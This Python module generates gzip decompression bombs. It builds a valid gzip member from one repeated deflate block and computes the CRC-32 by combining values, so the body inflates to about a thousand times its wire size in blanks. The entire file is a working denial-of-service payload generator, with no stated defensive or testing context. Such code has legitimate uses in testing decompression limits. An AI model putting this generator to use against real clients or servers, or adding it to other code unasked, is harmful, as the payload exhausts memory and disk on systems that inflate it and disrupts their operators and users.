"""A gzip body that is a thousand times as long once inflated, written from one prepared block.
Spec: RFC 1951 (deflate), RFC 1952 (gzip)."""

from __future__ import annotations

import functools
import struct
import zlib
from dataclasses import dataclass

PIECE_OCTETS = 8 * 1024 * 1024
_BLANK = b" "
_POLYNOMIAL = 0xEDB88320


@dataclass(frozen=True)
class GzipBomb:
    """The body is `head`, `block` so many times, `tail`; it inflates to blanks."""

    head: bytes
    block: bytes
    blocks: int
    tail: bytes

    @property
    def octets(self) -> int:
        """Length of the body as it goes over the wire."""
        return len(self.head) + len(self.block) * self.blocks + len(self.tail)


def gzip_bomb(inflated_octets: int) -> GzipBomb:
    """A whole and correct gzip member of that inflated length."""
    blocks, rest = divmod(inflated_octets, PIECE_OCTETS)
    crc = 0
    for _ in range(blocks):
        crc = _joined(crc, _crc_of_piece(), _shift_of_piece())
    crc = zlib.crc32(_BLANK * rest, crc)
    last = _deflated(rest, zlib.Z_FINISH)
    return GzipBomb(
        head=b"\x1f\x8b\x08\0\0\0\0\0\0\xff",
        block=_piece(),
        blocks=blocks,
        tail=last + struct.pack("<II", crc, inflated_octets & 0xFFFFFFFF),
    )


def _deflated(blanks: int, flush: int) -> bytes:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return deflate.compress(_BLANK * blanks) + deflate.flush(flush)


@functools.cache
def _piece() -> bytes:
    """Ends on an octet and refers to nothing before it, so that it can be repeated."""
    return _deflated(PIECE_OCTETS, zlib.Z_FULL_FLUSH)


@functools.cache
def _crc_of_piece() -> int:
    return zlib.crc32(_BLANK * PIECE_OCTETS)


@functools.cache
def _shift_of_piece() -> int:
    """x to the power of a piece's bits, modulo the polynomial of CRC-32."""
    result, power, bits = 0x80000000, 0x40000000, PIECE_OCTETS * 8
    while bits:
        if bits & 1:
            result = _product(result, power)
        power = _product(power, power)
        bits >>= 1
    return result


def _joined(crc: int, crc_behind: int, shift: int) -> int:
    """The CRC-32 of two texts together; `shift` stands for the length of the second."""
    return _product(shift, crc) ^ crc_behind


def _product(a: int, b: int) -> int:
    """In GF(2)[x] modulo the polynomial; bits reflected, as CRC-32 has them."""
    product = 0
    while a:
        if a & 0x80000000:
            product ^= b
        a = (a << 1) & 0xFFFFFFFF
        b = (b >> 1) ^ (_POLYNOMIAL if b & 1 else 0)
    return product
